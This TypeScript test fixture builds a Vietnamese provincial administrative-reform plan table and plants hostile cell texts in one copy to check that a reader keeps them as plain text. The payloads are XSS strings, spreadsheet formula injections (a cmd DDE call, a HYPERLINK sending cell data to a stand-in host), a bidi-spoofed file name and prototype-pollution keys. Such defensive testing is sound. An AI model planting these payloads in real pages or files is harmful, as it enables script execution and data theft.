// The appendix table the corpus starts from (a plain one, as staff type it) and the hostile texts
// it plants in one copy. Texts are written out in full so a test can look for them, byte for byte.
import type { Cell } from './minimal-xlsx.ts';

export const TITLE = 'KẾ HOẠCH CẢI CÁCH HÀNH CHÍNH NĂM 2021 CỦA ỦY BAN NHÂN DÂN TỈNH BẾN TRE';
export const HEADER = ['STT', 'Nội dung', 'Kết quả', 'Thời gian thực hiện', 'Cơ quan chủ trì', 'Cơ quan phối hợp', 'Ghi chú'];

/** Section and task rows: 2 sections, 6 items, with timelines the parser knows. */
export const BODY: Cell[][] = [
  ['I', 'Công tác chỉ đạo, điều hành cải cách hành chính'],
  [1, 'Xây dựng, ban hành Kế hoạch cải cách hành chính năm 2021', 'Kế hoạch', 'Tháng 01/2021', 'Sở Nội vụ', 'Các sở, ban, ngành tỉnh', ''],
  [2, 'Kiểm tra công tác cải cách hành chính tại các cơ quan, đơn vị', 'Báo cáo', 'Quý II/2021', 'Sở Nội vụ', 'Văn phòng UBND tỉnh', ''],
  [3, 'Tổng hợp, báo cáo kết quả thực hiện cải cách hành chính', 'Báo cáo', 'Quý IV/2021', 'Sở Nội vụ', '', ''],
  ['II', 'Cải cách thể chế'],
  [1, 'Rà soát văn bản quy phạm pháp luật do tỉnh ban hành', 'Quyết định', 'Quý III/2021', 'Sở Tư pháp', 'Các sở, ban, ngành tỉnh', ''],
  [2, 'Theo dõi thi hành pháp luật', 'Báo cáo', 'Tháng 12/2021', 'Sở Tư pháp', '', ''],
  [3, 'Tuyên truyền, phổ biến pháp luật về cải cách hành chính', 'Kế hoạch', 'Trong năm 2021', 'Sở Tư pháp', 'Sở Thông tin và Truyền thông', ''],
];

export const tableRows = (body: Cell[][] = BODY): Cell[][] => [[TITLE], [], HEADER, ...body];

/** The same table as tab-separated text, as Excel's "Text (Tab delimited)" writes it. */
export const tableText = (lineEnd = '\n', body: Cell[][] = BODY): string =>
  tableRows(body)
    .map((row) => row.map((c) => (c === null ? '' : String(c))).join('\t'))
    .join(lineEnd) + lineEnd;

/**
 * Texts that must come out exactly as typed, as text: markup and script that a careless page would
 * run, cell text that a careless writer turns into a formula, and writing a careless program breaks.
 * (Spaces are single and the ends trimmed: the reader tidies cells that way, on purpose.)
 */
export const HOSTILE_TEXT = {
  imgOnerror: 'Rà soát thủ tục <img src=x onerror="window.__pwned=1;alert(1)">',
  script: '<script>window.__pwned=2</script>Tổ chức hội nghị',
  svg: 'Ban hành <svg onload="window.__pwned=3"> quy chế',
  link: '<a href="javascript:window.__pwned=4">Bấm vào đây</a>',
  formulaEquals: '=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")',
  formulaPlus: '+84 912 345 678',
  formulaMinus: '-2+3',
  formulaAt: '@SUM(A1:A9)',
  formulaDde: "=cmd|' /C calc'!A0",
  emoji: 'Đã hoàn thành 🎉👍🏽 báo cáo 📄 gửi Sở 🏛️',
  rightToLeft: 'مراجعة الإجراءات الإدارية ‏שלום‎ ١٢٣',
  bidiOverride: 'Hạn \u202Etxt.exe\u202C nộp báo cáo',
  combining: 'Z̷̢̛a̸l̵g̶o̴ q\u0301 ǹ\u0323 tiếng Việt dựng sẵn',
  zeroWidth: 'Sở\u200bNội\u200dvụ\ufeffx',
  protoName: '__proto__',
  constructorName: 'constructor',
} as const;

/** A long text of whole Vietnamese words, `length` characters, under Excel's 32,767 per cell. */
export function longText(length: number): string {
  const words = 'Đẩy mạnh cải cách thủ tục hành chính, nâng cao chất lượng phục vụ người dân và doanh nghiệp. ';
  return words.repeat(Math.ceil(length / words.length)).slice(0, length).trim();
}

/** The table with hostile text in the task, output, lead, coordinating agencies and note columns. */
export function hostileBody(): Cell[][] {
  const h = HOSTILE_TEXT;
  return [
    ['I', 'Công tác chỉ đạo, điều hành'],
    [1, h.imgOnerror, h.formulaEquals, 'Quý I/2021', h.protoName, h.script, h.link],
    [2, h.script, h.formulaPlus, 'Quý II/2021', h.constructorName, h.svg, h.formulaDde],
    [3, h.emoji, h.formulaMinus, 'Quý III/2021', 'Sở Nội vụ', h.rightToLeft, h.formulaAt],
    [4, h.rightToLeft, h.formulaAt, 'Quý IV/2021', 'Sở Tư pháp', h.emoji, h.combining],
    [5, h.combining, 'Kế hoạch', 'Tháng 12/2021', 'Sở Tư pháp', h.bidiOverride, h.zeroWidth],
    [6, longText(32_000), 'Báo cáo', 'Trong năm 2021', 'Sở Nội vụ', '', longText(20_000)],
  ];
}
